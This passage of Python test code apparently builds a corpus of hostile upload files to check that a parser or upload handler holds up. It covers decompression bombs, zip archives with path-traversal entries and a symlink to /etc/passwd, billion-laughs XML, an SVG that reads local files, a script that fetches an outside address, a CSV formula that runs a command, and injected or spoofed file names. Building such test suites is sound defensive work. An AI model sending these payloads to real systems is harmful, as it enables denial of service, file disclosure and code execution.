            "tif",
            lambda: tiff(tiff_page(9, 9, (322, 4, 1, 10**9), (323, 4, 1, 10**9), (324, 4, 1, 300)), data=bytes(999)),
        ),
        ("65,000 entries", "tif", lambda: tiff(tiff_page() * 6_500, data=bytes(999))),
        ("noise after its head", "tif", lambda: b"MM\x00*" + random.Random(9).randbytes(9999)),
        ("32-bit pixels of no number", "tif", lambda: saved(Image.new("F", (99, 99), float("nan")), "TIFF")),
    )
    return (
        HostileFile(f"{kind} of {what}" if what[0].isdigit() else f"{kind} with {what}", f"picture{n}.{kind}", make)
        for n, (what, kind, make) in enumerate(made)
    )


# -- archives, other kinds, names --------------------------------------------------------------------------------------


def nested(depth: int) -> bytes:
    """Return an archive in an archive in an archive."""
    inner = sound_pdf(1)
    for level in range(depth):
        inner = zipped((f"{level}.{'zip' if level else 'pdf'}", inner))
    return inner


def overlapping(entries: int) -> bytes:
    """Return an archive whose many entries all unpack the same megabytes."""
    data = zlib.compress(bytes(20_000_000), 9)[2:-4]
    head = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, zlib.crc32(bytes(20_000_000)), len(data), 20_000_000, 1, 0) + b"a"
    listed = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, zlib.crc32(bytes(20_000_000)), len(data), 20_000_000, 1, *[0] * 6)
        + b"a"
        for _ in range(entries)
    )
    start = len(head) + len(data)
    return head + data + listed + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, len(listed), start, 0)


def listed_only(entries: int) -> bytes:
    """Return an archive that lists files which are not there."""
    listed = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, *[0] * 6) + b"a"
    return (
        b"PK\x03\x04"
        + listed * entries
        + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries % 65536, entries % 65536, len(listed) * entries, 4, 0)
    )


def archives() -> Iterator[HostileFile]:
    """Yield archives that mean no good."""
    odd = (
        "../../../etc/cron.d/x",
        "/etc/x",
        "C:\\x.pdf",
        "..\\..\\x.pdf",
        "CON.pdf",
        "x" * 5000 + ".pdf",
        "\u202efdp.exe",
        "a\x1b[31m.pdf",
        "=1+1.pdf",
        "",
    )
    made: tuple[tuple[str, Callable[[], bytes]], ...] = (
        ("archive of no files", zipped),
        ("archive in 12 archives", lambda: nested(12)),
        ("archive of 200 archives", lambda: zipped(*((f"{n}.zip", nested(2)) for n in range(200)))),
        ("archive of a gigabyte", lambda: zipped(*((f"{n}.pdf", b"%PDF-1.4" + bytes(100_000_000)) for n in range(10)))),
        ("archive whose 100 entries share 20 MB", lambda: overlapping(100)),
        ("archive of 70,000 files", lambda: zipped(*((f"{n}", b"") for n in range(70_000)))),
        ("archive that lists two million files", lambda: listed_only(2_000_000)),
        ("archive with odd names", lambda: zipped(*((name, sound_pdf(1)) for name in odd))),
        ("archive with a name of half characters", lambda: zipped(("a.pdf", sound_pdf(1))).replace(b"a.pdf", b"\xed\xa0\x80df")),
        ("archive with a link", linked),
        ("archive by an unknown method", lambda: zipped(("a.pdf", sound_pdf(1))).replace(b"\x08\x00", b"\x63\x00")),
        (
            "archive with a password",
            lambda: zipped(("a.pdf", sound_pdf(1))).replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"),
        ),
        ("archive whose end lies", lambda: zipped(("a.pdf", sound_pdf(1)))[:-8] + struct.pack("<IHH", 2**32 - 1, 0, 0)),
        ("archive of an archive as PDF", lambda: zipped(("a.pdf", nested(2)))),
        ("archive of a bomb of pixels", lambda: zipped(("a.png", png(60_000, 60_000, zlib.compress(bytes(9999)))))),
    )
    return (HostileFile(title, f"archive{n}.zip", make) for n, (title, make) in enumerate(made))


def linked() -> bytes:
    """Return an archive with a symbolic link."""
    out, link = io.BytesIO(), zipfile.ZipInfo("passwd.pdf")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def mislabelled() -> Iterator[HostileFile]:
    """Yield what is called PDF, or a picture, and is another thing."""
    names = "abcdefghij"
    laughs = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(names))
    for name, content in (
        ("page.html.pdf", b"<!DOCTYPE html><script>fetch('//192.0.2.1')</script>"),
        ("drawing.pdf", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'),
        ("entities.pdf", f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">{laughs}]><l>&j;</l>'.encode()),
        ("program.pdf", b"MZ" + bytes(5000)),
        ("program.png", b"\x7fELF" + bytes(5000)),
        ("table.csv", b'=cmd|" /C calc"!A0,1\n+1,2\n@x,3\n'),
        ("letter.docx", zipped(("[Content_Types].xml", b"x"), ("word/document.xml", b"x"))),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000)),
        ("moving.png", b"GIF89a" + bytes(500)),
        ("photo.jpg", b"\0\0\0\x18ftypheic" + bytes(500)),
        ("packed.zip", b"Rar!\x1a\x07\x00" + bytes(500)),
        ("packed.pdf", b"\x1f\x8b\x08" + bytes(500)),
        ("picture.pdf", sound_picture("PNG")),
        ("statement.png", sound_pdf(1)),
        ("both.jpg", b"\xff\xd8\xff\xe0" + sound_pdf(1)),
        ("ps.pdf", b"%!PS-Adobe-3.0\n{ } loop"),
    ):
        yield HostileFile(f"{name.rpartition('.')[2]} that is another thing, {name}", name, partial(bytes, content))


def odd_names() -> Iterator[HostileFile]:
    """Yield sound files whose names mean no good."""
    for what, name in (
        ("up and away", "../../../../etc/passwd.pdf"),
        ("from the root", "/etc/passwd.pdf"),
        ("of Windows", "C:\\Windows\\system32\\x.pdf"),
        ("with a zero", "statement.pdf\0.exe"),
        ("of 10,000 letters", "x" * 10_000 + ".pdf"),
        ("turned around", "statement\u202efdp.exe"),
        ("of half characters", "half\udcff\ud800.pdf"),
        ("of other scripts", "отчёт 财务 تقرير 🏦.pdf"),
        ("with line ends", "a\r\nSet-Cookie: x\n.pdf"),
        ("that is a formula", '=HYPERLINK("http://x.invalid").pdf'),
        ("that is a script", "<script>alert(1)</script>.pdf"),
        ("that colours a terminal", "\x1b]0;x\x07\x1b[31m.pdf"),
        ("of dots", ".."),
        ("of nothing", ""),
    ):
        yield HostileFile(f"name {what}", name, partial(sound_pdf, 1))


def hostile_files() -> tuple[HostileFile, ...]:
    """Return them all."""
    made = [(group, each) for group in (structures, sizes, contents, fonts, bombs, active) for each in group()]
    pdfs = [HostileFile(title, f"{group.__name__}{number}.pdf", content) for number, (group, (title, content)) in enumerate(made)]
    return (*broken(), *pdfs, *pictures(), *archives(), *mislabelled(), *odd_names())
